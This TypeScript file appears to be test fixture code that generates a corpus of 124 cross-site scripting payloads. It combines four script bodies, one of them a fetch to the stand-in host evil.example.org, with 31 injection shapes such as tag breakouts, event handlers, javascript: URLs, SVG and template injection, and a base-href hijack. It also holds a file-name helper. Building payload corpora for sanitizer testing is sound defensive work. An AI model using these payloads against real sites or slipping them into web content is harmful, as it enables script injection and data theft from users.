/** Strings that have become scripts somewhere: in element text, attributes, URLs, style, SVG, templates, parsers. */
const bodies = ['alert(1)', 'alert`1`', 'top.pwned=1', 'fetch(`//evil.example.org`)'];

const shapes: readonly ((body: string) => string)[] = [
  (body) => `<script>${body}</script>`,
  (body) => `"><script>${body}</script>`,
  (body) => `'><script>${body}</script>`,
  (body) => `</title><script>${body}</script>`,
  (body) => `</textarea><script>${body}</script>`,
  (body) => `</style><script>${body}</script>`,
  (body) => `</script><script>${body}</script>`,
  (body) => `</noscript><script>${body}</script>`,
  (body) => `--><script>${body}</script>`,
  (body) => `]]><script>${body}</script>`,
  (body) => `<img src=x onerror=${body}>`,
  (body) => `<img src=x onerror="${body}">`,
  (body) => `"><img src=x onerror=${body}>`,
  (body) => `<svg onload=${body}>`,
  (body) => `<svg><script>${body}</script></svg>`,
  (body) => `<svg><animate onbegin=${body} attributeName=x>`,
  (body) => `<math><mtext><script>${body}</script></mtext></math>`,
  (body) => `<iframe srcdoc="<script>${body}</script>">`,
  (body) => `<iframe src="javascript:${body}">`,
  (body) => `<a href="javascript:${body}">x</a>`,
  (body) => `javascript:${body}`,
  (body) => `" autofocus onfocus=${body} x="`,
  (body) => `' autofocus onfocus=${body} x='`,
  (body) => '` onmouseover=' + body + ' x=`',
  (body) => `<details open ontoggle=${body}>`,
  (body) => `<body onload=${body}>`,
  (body) => `<form action="javascript:${body}"><button>`,
  (body) => `<base href="//evil.example.org/"><script src=${body}></script>`,
  (body) => `<meta http-equiv=refresh content="0;url=javascript:${body}">`,
  (body) => `<link rel=stylesheet href="data:text/css,*{}" onload=${body}>`,
  (body) => `{{constructor.constructor('${body}')()}}`,
];

/** 124 strings. */
export const xssCorpus: readonly string[] = shapes.flatMap((shape) => bodies.map(shape));

/** What of `text` can be a file's name: every character but `/`. */
export function asFileName(text: string): string {
  return text.replaceAll('/', '\u2215');
}
